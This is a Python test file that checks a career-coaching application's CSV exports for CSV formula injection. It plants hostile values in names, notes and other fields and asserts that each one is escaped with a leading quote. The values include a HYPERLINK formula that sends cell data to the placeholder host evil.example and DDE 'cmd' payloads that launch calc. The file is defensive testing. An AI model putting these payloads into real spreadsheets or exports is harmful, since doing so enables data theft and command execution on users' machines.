"""No CSV file Crossroads writes holds a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re

from sqlalchemy import select

from crossroads.core.models import CareerTheme, Contact
from crossroads.plugins.alumni_offices.models import Affiliation, IntroductionRequest
from crossroads.plugins.progress_report.models import ReportNote

from .test_export import build, read, seed_everything

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def formula_cells(data: bytes) -> list[str]:
    return [c for c in cells(data) if c[:1] in TRIGGERS and not NUMBER.fullmatch(c)]


def make_everything_hostile(db, world) -> None:
    client = world.client
    seed_everything(db, client)
    names = iter(HOSTILE * 10)
    world.practice.name = HOSTILE[0]
    client.user.name = HOSTILE[1]
    world.coach.name = HOSTILE[2]
    for contact in db.scalars(select(Contact).where(Contact.client_id == client.id)):
        contact.name, contact.organisation, contact.position = next(names), next(names), next(names)
        contact.research_notes = next(names)
    for theme in db.scalars(select(CareerTheme).where(CareerTheme.client_id == client.id)):
        theme.title = next(names)
    for note in db.scalars(select(ReportNote).where(ReportNote.client_id == client.id)):
        note.body = next(names)
    for affiliation in db.scalars(select(Affiliation).where(Affiliation.client_id == client.id)):
        affiliation.programme = next(names)
    for request in db.scalars(select(IntroductionRequest).where(IntroductionRequest.client_id == client.id)):
        request.note = next(names)
    db.commit()


def test_hostile_names_never_start_a_cell_in_any_csv_crossroads_writes(db, world, as_user):
    make_everything_hostile(db, world)
    files = {name: data for name, data in read(build(db, world).data).items() if name.endswith(".csv")}
    assert "report/progress-report.csv" in files and "progress_report/notes.csv" in files
    assert "alumni_offices/affiliations.csv" in files
    base = "/plugins/progress_report"
    for user in (world.coach, world.client.user):
        report = as_user(user).get(f"{base}/clients/{world.client.id}/report/download?format=csv")
        assert report.status_code == 200
        files[f"report as {user.role.value}"] = report.data
    caseload = as_user(world.coach).get(f"{base}/caseload/download?format=csv")
    assert caseload.status_code == 200
    files["caseload report"] = caseload.data
    for name, data in files.items():
        assert formula_cells(data) == [], name
    report_cells = cells(files["report as coach"])
    assert "'" + HOSTILE[0] in report_cells  # the practice's name, in the first row
    assert "'" + HOSTILE[1] in cells(files["caseload report"])  # the client's name
    contact_cells = cells(files["contacts.csv"])
    assert {"'" + h for h in HOSTILE} <= set(contact_cells)
    assert "'" + HOSTILE[0] in cells(files["profile.csv"])
